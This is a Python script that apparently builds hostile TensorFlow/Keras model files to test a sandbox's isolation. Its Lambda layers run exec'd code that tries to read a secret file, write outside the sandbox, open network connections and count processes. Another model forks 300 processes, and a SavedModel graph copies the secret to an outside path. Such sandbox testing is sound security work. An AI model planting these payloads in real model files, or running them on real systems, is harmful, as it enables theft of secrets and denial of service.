"""Writes hostile model files: `python hostile_files.py FOLDER SECRET OUTSIDE PORT`, in TensorFlow.

Each tries to read a secret, to write outside, to reach the network, or to take too many processes,
and says in an error how that went.
"""

import sys

import tensorflow as tf

FOLDER, SECRET, OUTSIDE, PORT = sys.argv[1:]

REACH = """
import os, socket
def attempt(do):
    try:
        return "done: " + str(do())
    except Exception as error:
        return type(error).__name__
def connect(address):
    socket.create_connection(address, timeout=3).sendall(b"here")
found = [
    ("secret", attempt(lambda: open({secret!r}).read())),
    ("home", attempt(lambda: os.listdir(os.path.dirname({secret!r})))),
    ("write", attempt(lambda: open({outside!r}, "w").write("x"))),
    ("code", attempt(lambda: open(os.path.join(os.getcwd(), "/sandbox/exchange/files/x"), "w"))),
    ("local", attempt(lambda: connect(("127.0.0.1", {port})))),
    ("far", attempt(lambda: connect(("1.1.1.1", 53)))),
    ("processes", attempt(lambda: len([p for p in os.listdir("/proc") if p.isdigit()]))),
    ("environment", attempt(lambda: os.environ.get("KERAS_MATRIX_SECRET"))),
]
raise RuntimeError("REACHED " + repr(found))
"""
FORK = """
import os, time
for _ in range(300):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""


def write_lambda(name, source):
    text = source.format(secret=SECRET, outside=OUTSIDE, port=int(PORT))
    code = "lambda x: exec({!r}) or x".format(text)
    inputs = tf.keras.Input((2,))
    layer = tf.keras.layers.Lambda(lambda x: x)
    model = tf.keras.Model(inputs, layer(inputs))
    layer.function = eval(code)
    model.save("{}/{}".format(FOLDER, name))


class Graph(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec((None, 2), tf.float32)])
    def serve(self, x):
        text = tf.io.read_file(tf.constant(SECRET))
        with tf.control_dependencies([tf.io.write_file(tf.constant(OUTSIDE), text)]):
            return tf.identity(x) + tf.cast(tf.strings.length(text), tf.float32)


write_lambda("reach.h5", REACH)
write_lambda("fork.h5", FORK)
graph = Graph()
signatures = {"serving_default": graph.serve}
tf.saved_model.save(graph, FOLDER + "/graph", signatures=signatures)
